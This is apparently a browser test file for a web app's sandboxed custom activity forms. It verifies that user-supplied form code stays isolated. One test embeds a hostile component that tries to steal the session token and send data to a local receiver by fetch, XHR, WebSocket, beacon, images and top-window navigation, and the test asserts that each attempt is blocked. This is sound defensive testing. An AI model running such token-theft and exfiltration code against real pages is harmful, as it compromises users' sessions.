import { mkdirSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { Browser, Page } from 'playwright-core';
import { chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { api } from './helpers/app.ts';
import { axeViolations, CHROMIUM, hasChromium, launchChromium, NO_CHROMIUM } from './helpers/browser.ts';
import {
  type CustomFormWorld,
  createCustomFormWorld,
  FUEL_FORM,
  openEntry,
  PASSWORD,
  setUiCode as setUiCodeOf,
  storedFuel as storedFuelOf,
} from './helpers/custom-form-world.ts';
import { FUEL_FACTORS, setPassword, signIn, type WebAppWorld } from './helpers/web-app-world.ts';

// Custom activity forms (issue 51): the fuel definition's uiCode runs in a sandboxed frame of its
// own (a srcdoc document from the app's bundle, decision 224), in a Worker, and speaks to the app
// by messages only. A collector enters through it; a hostile uiCode reaches neither the session
// nor the network (not even the service) nor the top window; a component that never returns
// leaves the page responsive and the generic form in its place. Opened offline:
// web-app.custom-form-offline.browser.test.ts. Screenshots go to test-output/
// (web-app-custom-form-*.png), or to the folder SCREENSHOTS names.

const OUT = process.env.SCREENSHOTS || 'test-output';

/** The README's example component (a Litres field), as the README shows it. */
const README_UI_CODE = /<!-- ui-code:start -->\s*```js\n([\s\S]*?)\n```/.exec(
  readFileSync(new URL('../README.md', import.meta.url), 'utf8'),
)![1]!;

let custom: CustomFormWorld;
let world: WebAppWorld;
let browser: Browser | undefined;
let definitionId = '';
let receiver: Server;
let receiverUrl = '';
/** Every request the receiver on this machine got (it must get none). */
const received: string[] = [];

beforeAll(async () => {
  if (!hasChromium) return;
  mkdirSync(OUT, { recursive: true });
  custom = await createCustomFormWorld();
  ({ world, definitionId } = custom);
  receiver = createServer((request, response) => {
    received.push(`${request.method} ${request.url}`);
    response.end('ok');
  });
  await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve));
  const address = receiver.address();
  receiverUrl = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
  browser = await launchChromium();
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => receiver?.close(resolve));
  await world?.close();
}, 120_000);

const setUiCode = (uiCode: string) => setUiCodeOf(custom, uiCode);
const open = (periodUnit: number, using: Browser = browser!) => openEntry(using, world, periodUnit);
const storedFuel = (periodUnit: number) => storedFuelOf(world, periodUnit);

describe.skipIf(!hasChromium)(`custom activity forms in a sandbox ${hasChromium ? '' : NO_CHROMIUM}`, () => {
  it('a collector enters a fuel purchase through the definition’s own form; it is stored and calculated', async () => {
    await setUiCode(FUEL_FORM);
    const { context, page, errors } = await open(4);
    await page.getByRole('button', { name: 'Add Fuel purchase' }).click();
    const frameElement = page.locator('iframe.custom-form');
    await expect(frameElement.getAttribute('sandbox')).resolves.toBe('allow-scripts');
    await expect(frameElement.getAttribute('title')).resolves.toBe('Fuel purchase 1');
    const inFrame = page.frameLocator('iframe.custom-form');
    await inFrame.getByLabel('Fuel type').selectOption('diesel');
    await inFrame.getByLabel('Litres').fill('1250.5');
    await inFrame.getByText('About 1,050.4 kg of fuel').waitFor();
    // The generic fields are not there: the frame is the form.
    await expect(page.locator('#el-fuel-0-litres').count()).resolves.toBe(0);
    await page.screenshot({ path: `${OUT}/web-app-custom-form-filled.png`, fullPage: true });
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByText(/^Saved at/).waitFor();
    const stored = await storedFuel(4);
    expect(stored).toHaveLength(1);
    expect(stored[0]!.input).toEqual({ fuel: 'diesel', litres: 1250.5 });
    expect(stored[0]!.value).toBeCloseTo(1250.5 * FUEL_FACTORS.diesel, 6);
    // After the reload the frame shows the stored values, beside the calculated value.
    await expect(inFrame.getByLabel('Litres').inputValue()).resolves.toBe('1250.5');
    await page.locator('.type-activity .calculated').first().waitFor();
    expect(await axeViolations(page)).toEqual([]);
    await page.screenshot({ path: `${OUT}/web-app-custom-form-saved.png`, fullPage: true });
    expect(errors).toEqual([]);
    await context.close();

    // The review shows the inputs as the definition names them, never through the component.
    const manager = await browser!.newContext({ locale: 'en-GB', timezoneId: 'UTC' });
    const review = await manager.newPage();
    await setPassword(world.t, world.tenant.manager.userId, PASSWORD);
    await signIn(review, world.base, world.tenant.manager.email, PASSWORD);
    await review.goto(`${world.base}/app/review?form=${world.form.id}&period=4`);
    await review.getByRole('button', { name: /^1 activity/ }).click();
    const table = review.locator('table.activity-rows');
    await expect(table.locator('thead').textContent()).resolves.toMatch(/^fuellitresCalculated/);
    await expect(table.locator('tbody').textContent()).resolves.toContain('Diesel1,250.5');
    await expect(review.locator('iframe').count()).resolves.toBe(0);
    await review.screenshot({ path: `${OUT}/web-app-custom-form-review.png`, fullPage: true });
    await manager.close();
  }, 60_000);

  it('the README’s example: a value the frame sends goes through the locale’s number reading', async () => {
    await setUiCode(README_UI_CODE);
    const { context, page } = await open(5);
    await page.getByRole('button', { name: 'Add Fuel purchase' }).click();
    const inFrame = page.frameLocator('iframe.custom-form');
    await inFrame.getByLabel('Litres').fill('1,5');
    await page.getByRole('button', { name: 'Save' }).click();
    // "1,5" is no number in en-GB: refused beside the row, named as the definition names the input.
    await page
      .locator('.type-activity .field-error')
      .getByText(/^Litres: /)
      .waitFor();
    await expect(storedFuel(5)).resolves.toEqual([]);
    await context.close();
  });

  it('a hostile uiCode reaches neither the session, nor the network, nor the top window', async () => {
    // The frame inherits the app's CSP, whose connect-src allows the service: its own policy must
    // take that away too ('probe': a request to the service that would succeed without it).
    const hostile = `const R = ${JSON.stringify(receiverUrl)};
const APP = ${JSON.stringify(world.base)};
if (!self.probe) {
  self.probe = 'pending';
  const told = (what) => () => { self.probe = what; set('litres', '1'); };
  fetch(APP + '/app/worker-fetch', { mode: 'no-cors' }).then(told('reached'), told('refused'));
}
const tried = [];
const attempt = (name, fn) => {
  try { const r = fn(); if (r && r.catch) r.catch(() => {}); tried.push(name + ' ran'); }
  catch (e) { tried.push(name + ' ' + e.name); }
};
attempt('storage', () => self.parent.sessionStorage.getItem('sdcs.token'));
attempt('fetch', () => fetch(R + '/worker-fetch'));
attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', R + '/worker-xhr'); x.send(); });
attempt('import', () => importScripts(R + '/worker-script.js'));
attempt('image', () => { new Image().src = R + '/worker-image'; });
attempt('socket', () => new WebSocket(R.replace('http', 'ws') + '/worker-socket'));
attempt('top', () => { self.top.location = R + '/worker-navigate'; });
set('token', 'stolen');
set('litres', { toString: 'x' });
return h('div', null,
  h('img', { src: R + '/tree-image', alt: '' }),
  h('a', { href: R + '/tree-link', target: '_top', id: 'escape' }, 'Escape'),
  h('form', { action: R + '/tree-form' }, h('button', null, 'Send')),
  h('iframe', { src: R + '/tree-frame' }),
  h('div', { style: { backgroundImage: 'url(' + R + '/tree-style)' } }, 'styled'),
  h('p', { id: 'tried' }, tried.join('; ')),
  h('p', { id: 'probe' }, self.probe),
  h('label', { for: 'l' }, 'Litres'),
  h('input', { id: 'l', value: values.litres ?? '', onInput: (e) => set('litres', e.target.value) }));`;
    await setUiCode(hostile);
    const { context, page } = await open(6);
    const url = page.url();
    const token = await page.evaluate(() => sessionStorage.getItem('sdcs.token'));
    expect(token).toMatch(/\S{20,}/);
    await page.getByRole('button', { name: 'Add Fuel purchase' }).click();
    const inFrame = page.frameLocator('iframe.custom-form');
    const tried = await inFrame.locator('#tried').textContent();
    // In its worker the component has no page, no storage and no network.
    expect(tried).toContain('storage TypeError');
    expect(tried).toContain('image ReferenceError');
    expect(tried).not.toMatch(/import ran/);
    await inFrame
      .locator('#probe')
      .filter({ hasText: /reached|refused/ })
      .waitFor();
    await expect(inFrame.locator('#probe').textContent()).resolves.toBe('refused');
    // What it drew holds no image, link, form or frame.
    await expect(inFrame.locator('img, a, form, iframe').count()).resolves.toBe(0);
    // The frame's own page (as if the component ran there) is as closed.
    const frame = page.frames().find((f) => f.url() === 'about:srcdoc')!;
    const toService = await frame.evaluate(
      (app) =>
        fetch(`${app}/app/frame-fetch`, { mode: 'no-cors' }).then(
          () => 'reached',
          () => 'refused',
        ),
      world.base,
    );
    expect(toService).toBe('refused');
    const fromFrame = await frame.evaluate((R) => {
      const out: string[] = [];
      const attempt = (name: string, fn: () => unknown) => {
        try {
          const r = fn() as Promise<unknown> | undefined;
          if (r && typeof r.catch === 'function') r.catch(() => undefined);
          out.push(`${name} ran`);
        } catch (e) {
          out.push(`${name} ${(e as Error).name}`);
        }
      };
      attempt('storage', () => window.parent.sessionStorage.getItem('sdcs.token'));
      attempt('own storage', () => window.sessionStorage.getItem('x'));
      attempt('parent document', () => window.parent.document.title);
      attempt('fetch', () => fetch(`${R}/frame-fetch`));
      attempt('image', () => {
        new Image().src = `${R}/frame-image`;
      });
      attempt('beacon', () => navigator.sendBeacon(`${R}/frame-beacon`, 'x'));
      attempt('top', () => {
        window.top!.location.href = `${R}/frame-navigate`;
      });
      attempt('open', () => window.open(`${R}/frame-popup`));
      attempt('link', () => {
        const a = document.createElement('a');
        a.href = `${R}/frame-link`;
        a.target = '_top';
        document.body.append(a);
        a.click();
      });
      return out;
    }, receiverUrl);
    expect(fromFrame).toContain('storage SecurityError');
    expect(fromFrame).toContain('own storage SecurityError');
    expect(fromFrame).toContain('parent document SecurityError');
    await page.waitForTimeout(1500);
    expect(received).toEqual([]);
    expect(page.url()).toBe(url);
    await expect(page.evaluate(() => sessionStorage.getItem('sdcs.token'))).resolves.toBe(token);
    // The set() calls of an unknown input and of an object were dropped; typing still works.
    await inFrame.getByLabel('Litres').fill('12');
    await expect(inFrame.getByLabel('Litres').inputValue()).resolves.toBe('12');
    await page.screenshot({ path: `${OUT}/web-app-custom-form-hostile.png`, fullPage: true });
    await context.close();
  });

  it('a component that never returns leaves the page responsive and the generic form in its place', async () => {
    await setUiCode('while (true) {}');
    await neverReturns(7, browser!, true);
  });

  it('… also when Chromium keeps the frame in the page’s process (site isolation off)', async () => {
    // Chromium isolates the sandboxed frame by default (an out-of-process frame); without site
    // isolation it shares the page's process and thread: the Worker keeps the loop off it.
    const shared = await chromium.launch({
      executablePath: CHROMIUM,
      headless: true,
      args: ['--no-sandbox', '--disable-gpu', '--disable-site-isolation-trials'],
    });
    try {
      await setUiCode('while (true) {}');
      await neverReturns(8, shared, false);
    } finally {
      await shared.close();
    }
  });

  it('drafts and the offline queue keep what was entered in the frame', async () => {
    await setUiCode(FUEL_FORM);
    const { context, page } = await open(9);
    await page.getByRole('button', { name: 'Add Fuel purchase' }).click();
    const inFrame = page.frameLocator('iframe.custom-form');
    await inFrame.getByLabel('Fuel type').selectOption('petrol');
    await inFrame.getByLabel('Litres').fill('75');
    await page.waitForTimeout(600);
    await page.reload();
    await page.getByRole('button', { name: 'Restore' }).click();
    await expect(inFrame.getByLabel('Litres').inputValue()).resolves.toBe('75');
    await expect(inFrame.getByLabel('Fuel type').inputValue()).resolves.toBe('petrol');
    // Offline: the save waits on this device, and is sent when the connection returns.
    await context.setOffline(true);
    await inFrame.getByLabel('Litres').fill('80');
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByText(/^Saved on this device at/).waitFor();
    await expect(storedFuel(9)).resolves.toEqual([]);
    await context.setOffline(false);
    await page.getByText('Your values kept on this device were sent and stored.').waitFor();
    const stored = await storedFuel(9);
    expect(stored.map((a) => a.input)).toEqual([{ fuel: 'petrol', litres: 80 }]);
    expect(stored[0]!.value).toBeCloseTo(80 * FUEL_FACTORS.petrol, 6);
    await context.close();
  });
});

/** Whether Chromium runs the frame in a process of its own (an out-of-process iframe target). */
async function frameOutOfProcess(using: Browser, page: Page): Promise<boolean> {
  await page.waitForFunction(() => document.querySelector('iframe.custom-form') !== null);
  const cdp = await using.newBrowserCDPSession();
  const { targetInfos } = (await cdp.send('Target.getTargets')) as {
    targetInfos: { type: string; url: string }[];
  };
  await cdp.detach();
  return targetInfos.some((info) => info.type === 'iframe' && info.url === 'about:srcdoc');
}

async function neverReturns(periodUnit: number, using: Browser, outOfProcess: boolean) {
  const { context, page } = await open(periodUnit, using);
  await page.getByRole('button', { name: 'Add Fuel purchase' }).click();
  await expect(frameOutOfProcess(using, page)).resolves.toBe(outOfProcess);
  const started = performance.now();
  await page.getByRole('button', { name: 'Save' }).click({ timeout: 2000 });
  expect(performance.now() - started).toBeLessThan(2000);
  await page.getByText('This activity’s own form could not be shown').waitFor();
  await expect(page.locator('iframe.custom-form').count()).resolves.toBe(0);
  await page.locator('#el-fuel-0-fuel').selectOption('petrol');
  await page.locator('#el-fuel-0-litres').fill('10');
  await page.getByRole('button', { name: 'Save' }).click();
  await page.getByText(/^Saved at/).waitFor();
  const stored = await storedFuel(periodUnit);
  expect(stored[0]!.input).toEqual({ fuel: 'petrol', litres: 10 });
  await page.screenshot({ path: `${OUT}/web-app-custom-form-generic-${periodUnit}.png`, fullPage: true });
  await context.close();
}

describe.skipIf(!hasChromium)(`uiCode at save ${hasChromium ? '' : NO_CHROMIUM}`, () => {
  it('refuses a uiCode with a syntax error at save, naming the line and column', async () => {
    const res = await api(world.t, 'PUT', `/activity-definitions/${definitionId}`, {
      token: world.tenant.owner.token,
      body: {
        name: 'Fuel purchase',
        uiCode: 'const a = 1;\nreturn h("div", null, a +);',
        calcCode: 'return 1',
        inputs: [],
      },
    });
    expect(res.status).toBe(400);
    expect(res.body.issues).toEqual([
      expect.objectContaining({
        path: 'uiCode',
        message: expect.stringMatching(/^uiCode: .*line 2, column \d+/),
        code: 'uiCode.syntax',
        params: expect.objectContaining({ line: 2 }),
      }),
    ]);
  });
});
